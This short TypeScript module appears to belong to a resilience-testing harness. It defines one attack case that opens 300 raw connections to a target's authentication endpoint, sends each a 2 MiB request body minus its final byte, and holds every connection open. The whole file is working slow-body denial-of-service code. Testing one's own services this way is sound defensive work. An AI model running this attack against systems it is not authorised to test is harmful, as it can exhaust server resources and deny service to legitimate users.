import { type Attack, hold, openRaw, openSeveral } from './attack.ts';

export const unfinishedBodies: Attack = {
  title: '300 requests of a stranger send all of a body of 2 MiB but its end',
  async run(target, signal) {
    const { host, pathname } = new URL(target.https);
    const head =
      `POST ${pathname}/auth/challenge HTTP/1.1\r\nHost: ${host}\r\n` +
      'Content-Type: application/json\r\nContent-Length: 2097152\r\n\r\n';
    const begun = Buffer.concat([Buffer.from(head), Buffer.alloc(2_097_151, ' ')]);
    await openSeveral(
      300,
      async () => {
        const socket = await openRaw(target);
        socket.write(begun);
        return socket;
      },
      signal,
    );
    await hold(signal);
  },
};
